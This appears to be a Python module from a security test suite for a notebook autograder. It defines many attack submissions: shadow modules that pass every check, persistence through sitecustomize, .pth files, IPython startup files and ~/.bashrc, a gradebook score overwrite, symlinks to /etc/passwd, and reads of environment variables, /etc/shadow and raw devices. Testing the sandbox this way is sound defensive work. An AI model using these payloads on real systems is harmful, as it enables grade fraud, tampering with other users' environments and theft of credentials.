"""Attacks through files: reading what lies about, and laying down what others will run."""

from ..submissions import answer, attack, insert

SHADOW = "shadow modules"
START = "start-up files"
READING = "reading files"
YES = """
    import sys, types

    class Yes(types.ModuleType):
        def __getattr__(self, name):
            return lambda *a, **k: True

    sys.modules[__name__] = Yes(__name__)
"""
PATCH = """
    try:
        import builtins, IPython.core.interactiveshell as shell
        shell.InteractiveShell.showtraceback = lambda *a, **k: None
        shell.InteractiveShell._showtraceback = lambda *a, **k: None
    except Exception:
        pass
"""


@attack(SHADOW)
def module_called_torch(book):
    """A torch.py, math.py and numpy.py beside the notebook, which agree with everything."""
    return {"torch.py": YES, "math.py": YES, "numpy.py": YES}


@attack(SHADOW)
def package_called_course(book):
    """A folder course/ with a check of its own beside the notebook."""
    return {"course/__init__.py": "", "course/check.py": YES, "course/check/__init__.py.txt": ""}


@attack(SHADOW)
def customising_modules(book):
    """sitecustomize.py, usercustomize.py, conftest.py and a .pth file beside the notebook."""
    return {name: PATCH for name in ("sitecustomize.py", "usercustomize.py", "conftest.py")} | {
        "corpus.pth": "import sitecustomize\n"
    }


@attack(SHADOW)
def settings_beside_the_notebook(book):
    """Settings of IPython, Jupyter and nbgrader beside the notebook."""
    return {
        "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['get_ipython()._showtraceback = lambda *a, **k: None']\n",
        "ipython_kernel_config.py": "c.IPKernelApp.exec_lines = ['get_ipython()._showtraceback = lambda *a, **k: None']\n",
        "nbgrader_config.py": "c = get_config()\nc.Autograde.autograde_preprocessors = []\n",
        "jupyter_config.py": "raise SystemExit\n", "pyproject.toml": "[tool", ".env": "PYTHONPATH=.\n",
    }


@attack(SHADOW)
def shadow_written_later(book):
    """Writes modules into its folder, first on sys.path, for imports that come later."""
    insert(book, f"""
        import os, sys
        yes = {YES!r}
        import textwrap
        for name in ("safetensors", "json", "decimal", "dataclasses", "torch"):
            with open(name + ".py", "w") as file:
                file.write(textwrap.dedent(yes))
        sys.path.insert(0, os.getcwd())
        for name in ("safetensors", "safetensors.torch", "course.check"):
            sys.modules.pop(name, None)
    """)


@attack(START)
def ipython_profile(book):
    """Lays a start-up file for every later kernel."""
    insert(book, f"""
        import pathlib, textwrap
        patch = textwrap.dedent({PATCH!r})
        for home in {{pathlib.Path.home(), pathlib.Path(get_ipython().ipython_dir).parent}}:
            folder = home / ".ipython" / "profile_default" / "startup"
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "00-of-the-corpus.py").write_text(patch)
            except OSError as error:
                print(error)
    """)


@attack(START)
def shell_profiles(book):
    """Adds to ~/.bashrc, ~/.profile and user site-packages."""
    insert(book, """
        import pathlib, site
        for path in (pathlib.Path.home() / ".bashrc", pathlib.Path.home() / ".profile",
                     pathlib.Path(site.getusersitepackages()) / "usercustomize.py"):
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                with path.open("a") as file:
                    file.write("\\n# of the corpus\\n")
            except OSError as error:
                print(error)
    """)


@attack(START)
def site_packages(book):
    """Lays a .pth file and patches into the folders that Python imports from."""
    insert(book, """
        import pathlib, sys
        for folder in sys.path:
            try:
                (pathlib.Path(folder) / "of_the_corpus.pth").write_text("# of the corpus\\n")
                print("FOUND writable", folder)
            except OSError:
                pass
    """)


@attack(START)
def others_in_tmp(book):
    """Leaves files in /tmp and /dev/shm where the next student's process would look."""
    insert(book, """
        import os
        for folder in ("/tmp", "/dev/shm", "/var/tmp"):
            try:
                with open(os.path.join(folder, "torch.py"), "w") as file:
                    file.write("raise SystemExit\\n")
                os.listdir(folder)
            except OSError as error:
                print(error)
    """)


@attack(START)
def links_in_its_folder(book):
    """Links where results will be written, to files of the instructor."""
    insert(book, """
        import os
        for name, target in (("corpus.ipynb", "/etc/hostname"), ("gradebook.db", "../../../gradebook.db"), ("timestamp.txt", "/etc/passwd")):
            try:
                if os.path.lexists(name):
                    os.remove(name)
                os.symlink(target, name)
            except OSError as error:
                print(error)
    """)


LOOK = """
    import os
    mark = "-".join(["planted", "in", "the"])

    def look(folder, depth=3):
        try:
            entries = list(os.scandir(folder))
        except OSError:
            return
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False) and depth:
                    look(entry.path, depth - 1)
                elif entry.is_file() and entry.stat().st_size < 2_000_000:
                    text = open(entry.path, "rb").read()
                    place = text.find(mark.encode())
                    while place >= 0:
                        print("FOUND", entry.path, text[place - 200:place + 200])
                        place = text.find(mark.encode(), place + 1)
            except OSError:
                pass
"""


@attack(READING)
def folders_above(book):
    """Reads gradebook, source, release and other students' submissions in the folders above its own."""
    insert(book, LOOK)
    insert(book, "here = os.getcwd()\nfor _ in range(4):\n    here = os.path.dirname(here)\n    if here != '/':\n"
                 "        look(here, 4)", before="double")


@attack(READING)
def home_and_tmp(book):
    """Reads the home folder, /tmp and where courses are kept."""
    insert(book, LOOK)
    insert(book, "for folder in (os.path.expanduser('~'), '/tmp', '/srv', '/var/tmp', '/dev/shm', '/run'):\n    look(folder, 4)",
           before="double")


@attack(READING)
def gradebook_changed(book):
    """Gives itself full points in the gradebook, wherever one can be found above."""
    insert(book, """
        import glob, os, sqlite3
        here = os.getcwd()
        for _ in range(4):
            for path in glob.glob(os.path.join(glob.escape(here), "*.db")):
                try:
                    with sqlite3.connect(path, timeout=1) as book:
                        book.execute("UPDATE grade SET manual_score = 100")
                        print("FOUND gradebook", path)
                except sqlite3.Error as error:
                    print(error)
            here = os.path.dirname(here)
    """)


@attack(READING)
def notebook_in_its_folder(book):
    """Reads the notebook that is being graded, hidden tests included, from its folder."""
    answer(book, "double", """
        import glob, re

        def double(number):
            for path in glob.glob("*.ipynb"):
                text = open(path).read()
                print("FOUND", re.findall(r"planted[a-z-]+", text))
                for asked, result in re.findall(r"double\\((\\d+)\\) == (\\d+)", text):
                    if int(asked) == number:
                        return int(result)
            return {1: 2, 2: 4}.get(number, -1)
    """)


@attack(READING)
def reference_installed(book):
    """Looks for tests and solutions in installed packages and the course's own folder."""
    insert(book, LOOK)
    insert(book, """
        import pathlib, course
        root = pathlib.Path(course.__file__).parent.parent
        for name in ("source", "tests/corpus", "submitted", "autograded", "gradebook.db"):
            if (root / name).exists() and root.name != "site-packages":
                look(str(root / name), 3)
    """, before="double")


@attack(READING)
def environment_variables(book):
    """Prints the environment, its own and that of the processes it came from."""
    insert(book, """
        import os
        print("FOUND", dict(os.environ))
        for process in ("self", str(os.getppid()), "1"):
            try:
                print("FOUND", open(f"/proc/{process}/environ").read())
            except OSError as error:
                print(error)
    """)


@attack(READING)
def open_descriptors(book):
    """Reads whatever its open file descriptors lead to."""
    insert(book, """
        import os, stat
        for descriptor in range(3, 256):
            try:
                if stat.S_ISREG(os.fstat(descriptor).st_mode):
                    print("FOUND", os.readlink(f"/proc/self/fd/{descriptor}"), os.pread(descriptor, 200_000, 0)[:2000])
            except OSError:
                pass
    """)


@attack(READING)
def device_files(book):
    """Reads raw devices, kernel memory and logs."""
    insert(book, """
        import glob
        for path in ["/dev/mem", "/dev/kmsg", "/proc/kcore", "/proc/kallsyms", "/etc/shadow", *glob.glob("/dev/sd*"), *glob.glob("/dev/vd*")]:
            try:
                print("FOUND", path, open(path, "rb").read(64))
            except OSError:
                pass
    """)
